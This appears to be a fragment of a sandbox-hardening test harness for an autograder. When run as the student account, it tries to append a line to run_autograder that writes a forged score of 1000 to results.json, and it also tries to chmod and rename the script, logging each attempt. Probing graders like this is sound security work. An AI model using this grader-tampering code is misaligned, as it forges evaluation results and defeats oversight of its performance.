# ---------------------------------------------------------------- attack: append_run_autograder
# At import: append a command to run_autograder (bash reads scripts lazily, so a line appended while the
# script runs would execute after grading) and try to replace the script outright.
def _attack_append_run_autograder():
    line = "\necho '{\"score\": 1000, \"tests\": []}' > \"$AUTOGRADER_ROOT/results/results.json\"\n"
    attempts = []
    for target in _attack_paths("source", "run_autograder") + _attack_paths("run_autograder"):
        attempts.append(_attack_try(f"append to {target}", lambda t=target: open(t, "a").write(line)))
        attempts.append(_attack_try(f"chmod {target} 0777", lambda t=target: _aos.chmod(t, 0o777)))
        attempts.append(_attack_try(f"rename {target}", lambda t=target: _aos.rename(t, t + ".orig")))
    _attack_record("append_run_autograder", attempts=attempts)


if _attack_is_student():
    _attack_append_run_autograder()
else:
    _attack_record("append_run_autograder", skipped="not running as the grading account")
